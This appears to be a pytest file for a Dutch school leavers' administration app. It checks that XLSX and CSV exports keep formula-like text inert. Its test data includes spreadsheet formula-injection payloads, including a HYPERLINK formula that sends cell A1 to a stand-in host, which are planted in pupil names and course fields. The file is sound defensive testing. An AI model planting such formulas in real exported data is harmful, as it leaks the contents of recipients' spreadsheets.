"""Every spreadsheet Uitstroom writes keeps typed text as text: an opleiding or a name that looks
like a formula is never a live formula in an XLSX, and starts with a quote in a CSV."""

from __future__ import annotations

import ast
import zipfile
from collections.abc import Callable
from datetime import date, datetime
from io import BytesIO
from pathlib import Path

import pytest
from openpyxl import load_workbook

import uitstroom
from factories import fixed_clock, make_pupil
from uitstroom.domain.enums import JaNeeOnbekend, Leerweg, Niveau, SchoolType
from uitstroom.domain.exit import ExitInterview, LeavingReason, NextStep
from uitstroom.domain.model import SchoolSettings
from uitstroom.services.database import Database
from uitstroom.services.exit import ExitService
from uitstroom.services.export import export_pupils
from uitstroom.services.pupils import PupilService, SchoolService
from uitstroom.services.spreadsheet import FORMULA_START, Sheet, write_csv, write_xlsx

LINK = '=HYPERLINK("http://voorbeeld.invalid/?"&A1,"Klik")'
HOSTILE = [LINK, "+31 6 1234", "-2+3", "@SUM(A1)", "\tverborgen", "\r=1+1"]
NOW = datetime(2027, 3, 15, 10, 0)


def formulas_in(xlsx: bytes) -> list[str]:
    """The formula elements in the workbook's sheets, read from the file itself."""
    with zipfile.ZipFile(BytesIO(xlsx)) as archive:
        return [
            name
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)
        ]


def texts_in(xlsx: bytes) -> set[str]:
    workbook = load_workbook(BytesIO(xlsx))
    return {
        str(cell.value)
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None and cell.data_type == "s"
    }


def test_the_one_writer_stores_every_text_as_text_and_defuses_csv() -> None:
    out = BytesIO()
    write_xlsx(out, [Sheet("Proef", [["Kop"], *([text] for text in HOSTILE)], bold_rows=1)])
    assert formulas_in(out.getvalue()) == []
    # (XML keeps a carriage return as a line end: read back it is a newline.)
    assert {t.replace("\r", "\n") for t in HOSTILE} <= texts_in(out.getvalue())
    csv_out = BytesIO()
    write_csv(csv_out, [[text, date(2027, 3, 1), None] for text in HOSTILE])
    lines = csv_out.getvalue().decode("utf-8-sig")
    for start in FORMULA_START:
        assert f"'{start}" in lines
    assert "01-03-2027" in lines


# --- every writer ---------------------------------------------------------------------------------


def pupils_xlsx(database: Database, target: Path) -> None:
    PupilService(database.sessions, clock=fixed_clock()).create(
        make_pupil(leerlingnummer="300001", roepnaam=LINK, achternaam="@Visser"), "2026-2027"
    )
    export_pupils(database.sessions, target.with_suffix(".xlsx"))


def exit_figures_xlsx(database: Database, target: Path) -> None:
    SchoolService(database.sessions, clock=fixed_clock(NOW)).save_settings(
        SchoolSettings(name="ROC De Vaart", school_type=SchoolType.MBO, coordinator_name="Sanne")
    )
    record = PupilService(database.sessions, clock=fixed_clock(datetime(2026, 9, 1))).create(
        make_pupil(
            leerlingnummer="500001",
            geboortedatum=date(2007, 2, 1),
            mbo_opleiding=LINK,
            mbo_crebo="25180",
            mbo_niveau=Niveau.N2,
            mbo_leerweg=Leerweg.BOL,
        ),
        "2026-2027",
    )
    assert record.pupil.id is not None
    service = ExitService(database.sessions, clock=fixed_clock(NOW))
    interview = ExitInterview(
        held_on=date(2027, 3, 15),
        left_on=date(2027, 3, 31),
        reason=LeavingReason.DIPLOMA,
        startkwalificatie=JaNeeOnbekend.JA,
        next_step=NextStep.WERK,
        next_step_detail="Bakkerij De Korrel",
        phone_after="06 11223344",
        nazorg_agreed=True,
        mentor="Sanne de Wit",
    )
    service.finish(record.pupil.id, interview)
    service.export_figures("2026-2027", target.with_suffix(".xlsx"))


def cohort_figures_xlsx(database: Database, target: Path) -> None:
    from uitstroom.services.figures import FiguresService

    PupilService(database.sessions, clock=fixed_clock()).create(
        make_pupil(leerlingnummer="300003", roepnaam=LINK, klas="@PRO4"), "2026-2027"
    )
    service = FiguresService(database.sessions)
    service.write_xlsx(service.report("2026-2027", date(2027, 4, 2)), target.with_suffix(".xlsx"))


WRITERS: dict[str, Callable[[Database, Path], None]] = {
    "leerlingen": pupils_xlsx,
    "cijfers exitgesprekken": exit_figures_xlsx,
    "cohort in cijfers": cohort_figures_xlsx,
}


@pytest.mark.parametrize("writer", sorted(WRITERS))
def test_every_export_writes_a_formula_like_text_as_text(
    database: Database, tmp_path: Path, writer: str
) -> None:
    target = tmp_path / "uit.xlsx"
    WRITERS[writer](database, target)
    data = target.read_bytes()
    assert formulas_in(data) == []
    assert any(LINK in text for text in texts_in(data))


def test_the_pupil_csv_export_defuses_formula_starts(database: Database, tmp_path: Path) -> None:
    PupilService(database.sessions, clock=fixed_clock()).create(
        make_pupil(leerlingnummer="300002", roepnaam=LINK, achternaam="@Visser"), "2026-2027"
    )
    target = tmp_path / "uit.csv"
    export_pupils(database.sessions, target)
    text = target.read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK" in text and ";'@Visser;" in text


def test_no_module_writes_a_spreadsheet_but_the_one_writer() -> None:
    """openpyxl's Workbook and the csv writer are used in services/spreadsheet.py only (the
    import reads with load_workbook and csv readers)."""
    source = Path(uitstroom.__file__).parent
    writers = []
    for path in source.rglob("*.py"):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            named = (
                {alias.name for alias in node.names}
                if isinstance(node, ast.ImportFrom) and node.module == "openpyxl"
                else set()
            )
            uses_csv_writer = (
                isinstance(node, ast.Attribute)
                and node.attr in ("writer", "DictWriter")
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
            )
            if "Workbook" in named or uses_csv_writer:
                writers.append(path.relative_to(source).as_posix())
    assert sorted(set(writers)) == ["services/spreadsheet.py"]
